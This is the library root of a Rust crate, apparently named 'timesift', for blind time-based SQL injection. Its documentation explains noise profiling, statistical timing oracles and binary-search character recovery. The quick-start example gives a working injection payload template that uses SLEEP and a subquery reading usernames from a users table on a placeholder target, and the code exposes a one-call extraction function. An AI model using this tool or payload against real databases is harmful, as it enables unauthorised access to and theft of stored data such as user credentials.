//! # timesift
//!
//! Infer hidden boolean state over a noisy timing channel.
//!
//! The target answers every request identically except for latency: when a
//! probed condition holds, an induced delay is added to the round trip.
//! This crate turns that single noisy bit into reliable string extraction:
//! - Baseline profiling of ambient network noise (3-sigma noise floor)
//! - Calibration of the smallest reliably-detectable delay
//! - Boolean predicate oracles backed by Welch's one-sided t-test
//! - Character recovery by binary search over the ordinal domain
//! - Sequential and parallel extraction with explicit partial results
//!
//! ## Quick Start
//!
//! ```ignore
//! use std::sync::Arc;
//! use std::time::Duration;
//! use timesift::{Config, PayloadTemplate, Session, SqlConditions};
//! use timesift::transport::http::HttpTransport;
//!
//! let transport = HttpTransport::with_timeout(
//!     "http://target.example/search",
//!     "q",
//!     Duration::from_secs(30),
//! )?;
//! let conditions = SqlConditions::new(
//!     "UNICODE(SUBSTR((SELECT username FROM users LIMIT 1), {position}, 1))",
//! );
//! let template = PayloadTemplate::new(
//!     "' OR IF(({condition}),SLEEP({delay}),0) -- -",
//! )?;
//!
//! let session = Session::calibrate(
//!     transport,
//!     Arc::new(conditions),
//!     template,
//!     Config::default(),
//! )?;
//! let result = session.extract_parallel(32, 4);
//! println!("recovered: {:?} ({} queries)", result.value, result.queries);
//! ```
//!
//! Extraction never runs against an uncalibrated oracle: [`Session`]
//! construction is calibration, and a target whose delays drown in noise
//! fails loudly at that point rather than producing corrupt output.

#![warn(missing_docs)]
#![warn(clippy::all)]

// Core modules
mod baseline;
mod calibrate;
mod config;
mod error;
mod oracle;
mod probe;
mod result;
mod session;

// Functional modules
pub mod extract;
pub mod payload;
pub mod sim;
pub mod statistics;
pub mod transport;

mod parallel;

// Re-exports for public API
pub use baseline::{BaselineProfile, NOISE_SIGMA};
pub use calibrate::DelayConfig;
pub use config::Config;
pub use error::{Error, Result, TransportError};
pub use extract::Domain;
pub use oracle::{CharacterOracle, Verdict};
pub use payload::{ConditionSource, PayloadTemplate, SqlConditions};
pub use probe::TimingProbe;
pub use result::{CharacterResult, CharacterValue, ExtractionResult, Failure};
pub use session::Session;
pub use transport::Transport;

/// Convenience function: calibrate and extract in one call.
///
/// Calibrates a [`Session`] with the given configuration, then extracts
/// up to `max_length` characters sequentially. Use [`Session`] directly
/// to reuse one calibration across extractions or to extract in
/// parallel.
///
/// # Errors
///
/// Fails with [`Error::CalibrationFailed`] when no candidate delay is
/// reliably distinguishable from baseline noise; extraction itself never
/// errors, reporting partial results through [`ExtractionResult`]
/// instead.
pub fn extract<T: Transport>(
    transport: T,
    conditions: std::sync::Arc<dyn ConditionSource>,
    template: PayloadTemplate,
    config: Config,
    max_length: usize,
) -> Result<ExtractionResult> {
    let session = Session::calibrate(transport, conditions, template, config)?;
    Ok(session.extract(max_length))
}
